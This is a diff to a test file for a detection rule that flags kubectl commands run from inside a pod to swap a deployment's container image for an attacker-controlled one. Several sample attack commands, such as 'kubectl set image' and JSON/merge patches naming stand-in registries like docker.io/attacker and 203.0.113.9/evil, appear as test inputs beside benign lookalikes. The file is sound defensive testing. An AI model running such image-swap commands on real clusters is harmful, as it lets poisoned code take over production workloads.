@@ -5,7 +5,8 @@
  * a cgroup v1 file system mounted, container-escape toolkits (MLS-RAY-021); kube-hunter (MLS-RAY-024);
  * chattr's immutable and append-only attributes set or cleared (MLS-RAY-016); kubectl from a pod
  * taking down logging and security agents, network and admission policies, Pod Security
- * (MLS-POISON-022). Beside each, the everyday neighbours that must stay quiet.
+ * (MLS-POISON-022), or swapping a workload's image (MLS-POISON-023). Beside each, the everyday
+ * neighbours that must stay quiet.
  */
 import { describe, it } from 'vitest';
 import { expectQuiet as quiet, expectRaised as raises } from './exec-events.test-support.js';
@@ -127,6 +128,27 @@ describe('MLS-POISON-022: kubectl from a pod taking down the cluster\'s defenses
       'kubectl label ns ml-train pod-security.kubernetes.io/enforce=restricted --overwrite',
       'oc adm policy add-scc-to-user restricted-v2 -z default',
       'kubectl get events -n ml-train; echo delete',
+    ]);
+  });
+});
+
+describe("MLS-POISON-023: kubectl from a pod swapping a workload's image", () => {
+  it('escalates set image and patches that name an image (merge, YAML, JSON Patch)', () => {
+    raises('MLS-POISON-023', [
+      'kubectl set image deploy/inference server=docker.io/attacker/triton:latest',
+      `kubectl patch deploy trainer -p '{"spec":{"template":{"spec":{"containers":[{"name":"t","image":"203.0.113.9/evil:latest"}]}}}}'`,
+      `kubectl patch deploy trainer --type=json -p '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"203.0.113.9/e"}]'`,
+      "kubectl -n serving patch deployment llama-serve -p 'spec: {template: {spec: {containers: [{name: s, image: evil}]}}}'",
+    ]);
+  });
+
+  it('leaves reading images, other settings and other patches', () => {
+    quiet('MLS-POISON-023', [
+      "kubectl get deploy -o jsonpath='{..image}'",
+      'kubectl set env deploy/x A=b',
+      `kubectl patch deploy x -p '{"spec":{"replicas":2}}'`,
+      `kubectl patch deploy x -p '{"metadata":{"labels":{"imagefix":"true"}}}'`,
+      'kubectl describe pod x | grep image',
     ]);
   });
 });
